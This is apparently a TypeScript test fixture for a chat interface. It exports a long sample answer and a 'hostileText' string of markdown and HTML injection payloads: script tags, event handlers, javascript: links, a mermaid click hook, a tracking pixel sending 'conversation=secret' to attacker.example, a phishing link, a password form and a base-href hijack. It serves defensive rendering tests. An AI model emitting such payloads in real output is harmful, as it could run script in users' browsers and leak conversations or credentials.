import { splitTokens } from './tokens.ts';

const LONG_TOKENS = 5_000;

/** About as long as an answer gets. */
export const longText = splitTokens(
  Array.from({ length: 800 }, (_, index) => `This is sentence ${index + 1} of a long answer.`).join(
    ' ',
  ),
)
  .slice(0, LONG_TOKENS)
  .join('');

/** What a model that was talked into mischief may write: a page must show it without doing it. */
export const hostileText = `# Trouble <script>window.hostile = 'script'</script>

<img src="x" onerror="window.hostile = 'onerror'"> <svg onload="window.hostile = 'onload'"></svg>
![tracking picture](https://attacker.example/pixel.png?conversation=secret)
[a link](javascript:window.hostile='link') and <a href="javascript:window.hostile='html-link'">another</a>,
[data](data:text/html,<script>window.hostile='data'</script>), [phishing](https://attacker.example/login).
<iframe src="https://attacker.example"></iframe><form action="https://attacker.example"><input name="password"></form>
<style>body { display: none }</style><base href="https://attacker.example/">

\`\`\`mermaid
graph TD; A["<img src=x onerror=window.hostile='mermaid'>"] --> B; click A "javascript:window.hostile='mermaid-link'"
\`\`\`

A claim that no document makes [99], and another one [1234] [0] [-1].`;
